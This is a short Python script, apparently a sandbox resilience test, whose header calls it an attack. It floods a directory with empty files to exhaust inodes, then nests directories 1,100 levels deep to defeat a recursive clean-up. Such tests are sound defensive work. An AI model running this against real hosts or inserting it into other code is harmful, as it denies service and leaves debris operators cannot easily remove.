# Attack: exhaust inodes with a flood of empty files, then build a directory tree deeper than a recursive
# clean-up can walk (Python's recursion limit is 1000; the host deletes the work directory afterwards).
import os
import time

files = 0
error = "reached the ceiling"
deadline = time.monotonic() + 0.5
try:
    os.mkdir("flood")
    while files < 500_000 and time.monotonic() < deadline:
        for _ in range(1000):
            open(f"flood/{files}", "wb").close()
            files += 1
except OSError as e:
    error = e.strerror
print(f"{files} empty files ({error})", flush=True)
depth = 0
try:
    while depth < 1100:
        os.mkdir("d")
        os.chdir("d")
        depth += 1
except OSError as e:
    print(f"tree stopped: {e.strerror}")
print(f"directory tree {depth} levels deep", flush=True)
